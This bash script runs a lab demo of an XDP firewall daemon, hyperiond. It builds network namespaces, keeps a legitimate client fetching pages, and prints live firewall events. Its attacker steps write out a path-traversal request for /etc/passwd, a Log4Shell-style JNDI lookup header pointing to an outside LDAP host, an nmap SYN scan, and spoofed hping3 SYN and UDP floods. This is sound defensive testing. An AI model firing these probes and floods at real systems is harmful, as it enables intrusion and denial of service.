#!/usr/bin/env bash
# `make demo`: a lab of namespaces, hyperiond with scripts/default.lua on the server, real traffic from a
# client and an attacker, and a running commentary of what the firewall saw and did. Under a minute.
set -u
cd "$(dirname "$0")/.."
source scripts/lab.sh
POLICY=${POLICY:-scripts/default.lua}
T0=$(date +%s.%N)

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
elapsed() { awk -v t0="$T0" -v t1="$(date +%s.%N)" 'BEGIN { printf "%5.1fs", t1 - t0 }'; }
cleanup() {
	[ -n "${EVENTS_PID:-}" ] && kill "$EVENTS_PID" 2>/dev/null
	[ -n "${CLIENT_PID:-}" ] && kill "$CLIENT_PID" 2>/dev/null
	lab_down
}
trap cleanup EXIT
trap 'echo; echo "interrupted: cleaning up"; exit 130' INT TERM

[ "$(id -u)" = 0 ] || { echo "make demo needs root (network namespaces, XDP)" >&2; exit 1; }

say "lab: server $LAB_SERVER4/$LAB_SERVER6, client $LAB_CLIENT4, attacker $LAB_ATTACKER4 (+.67-.70)"
lab_up
lab_start_http || exit 1
say "hyperiond on the server's $LAB_IF with $POLICY"
lab_start_daemon "$POLICY" || exit 1
ctl status

# Live commentary: every event the daemon delivers, one line each, with the time since start.
( ctl events 2>&1 | while IFS= read -r line; do printf '  [%s] %s\n' "$(elapsed)" "$line"; done ) &
EVENTS_PID=$!

# The legitimate client keeps fetching pages during every attack; each failure is counted.
(
	ok=0 fail=0
	for i in $(seq 1 400); do
		if cli curl -s -o /dev/null --max-time 2 "http://$LAB_SERVER4/index.html" &&
		   cli curl -s -o /dev/null --max-time 2 "http://[$LAB_SERVER6]/index.html"; then
			ok=$((ok + 1))
		else
			fail=$((fail + 1))
		fi
		echo "$ok $fail" >"$LAB_DIR/client.count"
		[ -e "$LAB_DIR/stop" ] && break
		sleep 0.1
	done
) &
CLIENT_PID=$!
sleep 1

say "attacker: exploit probes in HTTP requests (signatures)"
att curl -s -o /dev/null --max-time 2 --path-as-is "http://$LAB_SERVER4/../../etc/passwd" ; echo "  curl /../../etc/passwd -> exit $?"
att curl -s -o /dev/null --max-time 2 --interface 192.0.2.67 -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}' \
	"http://$LAB_SERVER4/" ; echo "  curl with \${jndi: header -> exit $?"
sleep 1

say "attacker: SYN port scan from 192.0.2.68 (nmap)"
att timeout 20 nmap -n -Pn -sS -e eth0 -S 192.0.2.68 --max-retries 0 -p 1-2000 -T4 "$LAB_SERVER4" 2>&1 |
	grep -E 'open|filtered|scanned' | head -n 5 | sed 's/^/  /'
sleep 1

say "attacker: SYN flood on port 80 from 192.0.2.69 (hping3, 3 s)"
att timeout 3 hping3 -q -S -p 80 -a 192.0.2.69 -i u200 "$LAB_SERVER4" >/dev/null 2>&1
sleep 2

printf '${jndi:ldap://x}${jndi:ldap://x}' >"$LAB_DIR/udp.payload"
say "attacker: UDP flood with a signature in the payload from 192.0.2.70 (2 s)"
att timeout 2 hping3 -q -2 -p 53 -a 192.0.2.70 -d 32 -E "$LAB_DIR/udp.payload" -i u500 "$LAB_SERVER4" \
	>/dev/null 2>&1
sleep 2

touch "$LAB_DIR/stop"
wait "$CLIENT_PID" 2>/dev/null
kill "$EVENTS_PID" 2>/dev/null

say "bans"
ctl ban list
say "counters"
ctl stats
read -r ok fail <"$LAB_DIR/client.count" 2>/dev/null || { ok=0; fail=0; }
say "summary"
printf '  %-44s %s\n' "legitimate client requests (v4+v6) ok" "$ok" \
	"legitimate client requests failed" "$fail" \
	"sources banned" "$(ctl ban list 2>/dev/null | grep -c '/')" \
	"demo time" "$(elapsed)"
[ "$fail" -eq 0 ] || echo "  WARNING: legitimate requests failed"
